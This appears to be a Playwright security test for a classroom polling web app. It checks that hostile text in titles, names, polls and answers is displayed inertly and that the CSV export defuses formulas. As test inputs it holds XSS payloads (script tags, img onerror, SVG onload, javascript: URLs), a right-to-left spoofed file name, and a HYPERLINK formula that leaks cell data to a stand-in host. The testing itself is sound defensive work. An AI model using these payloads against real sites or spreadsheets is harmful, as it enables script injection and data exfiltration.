/**
 * Hostile text everywhere a user can type: course and session titles, the teacher's and students'
 * display names, poll prompts and options, word-cloud words and open answers — script tags,
 * event-handler attributes, `javascript:` URLs, SVG onload, very long and right-to-left text, emoji and
 * zero-width characters. Created through the REST API and the real WebSocket, then shown on every
 * page that displays it (teacher dashboard, editor, live control, presenter, student view) in real
 * Chromium: nothing executes (no dialog, no `window.__xss`, no CSP violation) and the text is shown as
 * text. The CSV export neutralises spreadsheet formulas.
 */
import { expect, type Page, test } from '@playwright/test';
import { castVotes, type Joined, joinByCode, parseCsv, signUpTeacher } from '../support/security-fixtures.ts';

const hook = (tag: string) => `window.__xss='${tag}';alert('${tag}')`;
const P = {
  script: `<script>${hook('script')}</script>`,
  img: `<img src=x onerror="${hook('img')}">`,
  js: `<a href="javascript:${hook('js')}">open</a> javascript:${hook('jsurl')}`,
  svg: `<svg onload="${hook('svg')}"><circle r=5 /></svg>`,
  rtl: '\u202Egnp.exe\u202C',
  emoji: '👩🏽‍🏫🎉',
  zeroWidth: 'zero\u200Bwidth\u200Djoin\uFEFF',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
};
const long = (n: number, seed: string) => `${seed} ${'W'.repeat(Math.max(0, n - seed.length - 1))}`;

const COURSE = `${P.script} Biology ${P.img}`.slice(0, 200);
const SESSION = `${P.svg} ${P.rtl} ${P.emoji} ${P.zeroWidth}`;
const TEACHER = `${P.img}`.slice(0, 80);
const CHOICE_PROMPT = `${P.script}${P.img} ${P.js}`;
const OPTIONS = [P.img, P.svg, P.formula, long(200, P.script)];
const CLOUD_PROMPT = `${P.svg} words ${P.zeroWidth}`;
const WORDS = ['<svg/onload=__xss=7>', '=1+2', `zero\u200Bwidth ${P.emoji}`];
const OPEN_PROMPT = long(500, `${P.img} ${P.rtl} explain`);
const ANSWERS = [`${P.script}${P.img}`, P.formula, `${P.rtl} ${P.emoji} ${P.zeroWidth}`];
const NAMES = ['<img src=x onerror=__xss=8>', '=HYPERLINK("http://e.x","y")', `\u202Eevil${P.emoji}\u200B`];

interface Watch {
  problems: string[];
}

/** Records dialogs, page errors and CSP violations; every page gets a `__xss` probe. */
async function watch(page: Page): Promise<Watch> {
  const w: Watch = { problems: [] };
  page.on('dialog', (d) => {
    w.problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on('pageerror', (e) => w.problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy|Refused to/i.test(m.text()))
      w.problems.push(`console: ${m.text()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __csp: string[] }).__csp ??= [];
      (window as unknown as { __csp: string[] }).__csp.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  return w;
}

async function expectNothingRan(page: Page, w: Watch, where: string) {
  // Give event handlers (onerror fires after a failed image load) time to run.
  await page.waitForTimeout(300);
  const probe = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss ?? null,
    csp: (window as unknown as { __csp?: string[] }).__csp ?? [],
    injected: document.querySelectorAll(
      'main script, main img[src="x"], main svg[onload], main a[href^="javascript:"]',
    ).length,
  }));
  expect({ where, ...probe, problems: w.problems }).toEqual({
    where,
    xss: null,
    csp: [],
    injected: 0,
    problems: [],
  });
}

test('hostile text in every field is shown as text and never runs; the CSV export defuses formulas', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(120_000);
  const w = await watch(page);
  await page.goto('/');
  const teacher = await signUpTeacher(page, baseURL!, { displayName: TEACHER });
  const course = await teacher.call<{ id: string }>('POST', '/api/courses', { title: COURSE });
  const session = await teacher.call<{ id: string; joinCode: string }>('POST', '/api/sessions', {
    title: SESSION,
    courseId: course.id,
    settings: { anonymity: 'names_shown' },
  });
  const poll = (body: unknown) =>
    teacher.call<{ id: string }>('POST', `/api/sessions/${session.id}/polls`, body);
  const choice = await poll({
    prompt: CHOICE_PROMPT,
    content: { type: 'single_choice', options: OPTIONS.map((text, i) => ({ id: `o${i}`, text })) },
  });
  const cloud = await poll({ prompt: CLOUD_PROMPT, content: { type: 'word_cloud' } });
  const open = await poll({ prompt: OPEN_PROMPT, content: { type: 'open_text' } });
  await teacher.call('POST', `/api/sessions/${session.id}/start`);

  const students: Joined[] = [];
  for (const name of NAMES) students.push(await joinByCode(page.request, session.joinCode, name));
  const round = async (pollId: string, value: (i: number) => unknown) => {
    await teacher.call('POST', `/api/polls/${pollId}/open`, {});
    for (const [i, s] of students.entries())
      await castVotes(page, s.participantToken, session.id, [{ pollId, value: value(i) }]);
    await teacher.call('POST', `/api/polls/${pollId}/close`);
    await teacher.call('POST', `/api/polls/${pollId}/reveal`, { results: true });
  };
  await round(choice.id, (i) => ({ type: 'single_choice', optionId: `o${i}` }));
  await round(cloud.id, () => ({ type: 'word_cloud', entries: WORDS }));
  await teacher.call('POST', `/api/polls/${open.id}/open`, {});
  for (const [i, s] of students.entries())
    await castVotes(page, s.participantToken, session.id, [
      { pollId: open.id, value: { type: 'open_text', text: ANSWERS[i] } },
    ]);
  await teacher.call('POST', `/api/polls/${open.id}/reveal`, { results: true });
  await expectNothingRan(page, w, 'home (where the votes were cast)');

  // Teacher dashboard: course and session titles.
  await page.goto('/dashboard');
  await expect(page.getByText(SESSION.slice(0, 40)).first()).toBeVisible();
  await expectNothingRan(page, w, 'dashboard');

  // Session editor: prompts and options, as text.
  await page.goto(`/sessions/${session.id}`);
  await expect(page.getByText(P.script).first()).toBeVisible();
  await expectNothingRan(page, w, 'editor');

  // Live control: the open poll, names, answers.
  await page.goto(`/sessions/${session.id}/live`);
  await expect(page.getByText('explain').first()).toBeVisible();
  await expectNothingRan(page, w, 'live control');

  // Presenter: the open poll and its released answers.
  await page.goto(`/present/${session.id}`);
  await expect(page.getByText('explain').first()).toBeVisible();
  await expectNothingRan(page, w, 'presenter');

  // Student page: joins through the form with a hostile name, sees the prompt and released answers.
  const student = await page.context().browser()!.newContext({ baseURL });
  const phone = await student.newPage();
  const ws = await watch(phone);
  await phone.goto(`/j/${session.joinCode}`);
  await phone.getByLabel('Your name').fill(`<svg onload="${hook('name')}">`.slice(0, 40));
  await phone.getByRole('button', { name: 'Join' }).click();
  await expect(phone.getByText('explain').first()).toBeVisible();
  await expect(phone.getByText(ANSWERS[0]).first()).toBeVisible();
  await expectNothingRan(phone, ws, 'student');
  await student.close();

  // CSV: every cell a spreadsheet would evaluate is prefixed with ' — and the text is otherwise intact.
  const csv = await page.request.get(`/api/sessions/${session.id}/results.csv`, {
    headers: { authorization: `Bearer ${teacher.token}` },
  });
  expect(csv.status()).toBe(200);
  const cells = parseCsv(await csv.text()).flat();
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  expect(cells).toContain(`'${P.formula}`);
  expect(cells).toContain(`'${NAMES[1]}`);
});
